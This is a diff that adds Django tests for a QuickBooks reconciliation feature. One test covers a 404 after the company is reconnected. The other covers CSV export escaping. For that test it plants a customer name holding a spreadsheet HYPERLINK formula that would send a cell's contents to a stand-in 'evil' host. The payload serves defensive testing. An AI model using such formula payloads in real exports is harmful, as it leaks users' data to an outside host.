@@ -25,7 +25,7 @@ def unapplied(company, realm=REALM, **fields):
         realm_id=realm,
         qbo_payment_id=fields.pop("qbo_payment_id", "77"),
         amount=Decimal("50.00"),
-        customer_name="Alpha Client",
+        customer_name=fields.pop("customer_name", "Alpha Client"),
         reason="Not applied to an invoice in QuickBooks.",
         **fields,
     )
@@ -50,3 +50,28 @@ def test_unapplied_payments_are_rows_and_the_fix_marks_them_handled(tenant, othe
     assert mine.status == "resolved"
     with pytest.raises(Exception, match="Already done"):
         reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
+
+
+def test_a_fix_from_a_check_of_a_quickbooks_company_connected_before_is_a_404(tenant, connected, no_invoices_there):
+    from django.http import Http404
+
+    from integrations.models import QuickBooksConnection
+
+    mine = unapplied(tenant.company)
+    review = reconciliation.reconciliation_check(connection=connected)
+    QuickBooksConnection.objects.filter(pk=connected.pk).update(realm_id="4620816365180392970")
+    connected.refresh_from_db()
+    with pytest.raises(Http404):
+        reconciliation.reconciliation_fix(connection=connected, review_id=review.pk, index=0, user=tenant.admin)
+    mine.refresh_from_db()
+    assert mine.status == "open"
+
+
+def test_the_csv_neutralises_formulas_even_behind_spaces_and_keeps_negative_amounts_numbers(
+    tenant, connected, no_invoices_there
+):
+    unapplied(tenant.company, customer_name=' =HYPERLINK("http://evil/?"&A1,"x")')
+    QuickBooksUnappliedPayment.objects.update(amount=Decimal("-5.00"))
+    review = reconciliation.reconciliation_check(connection=connected)
+    text = reconciliation.reconciliation_csv(review)
+    assert "' =HYPERLINK" in text and ",-5.00," in text and "'-5.00" not in text
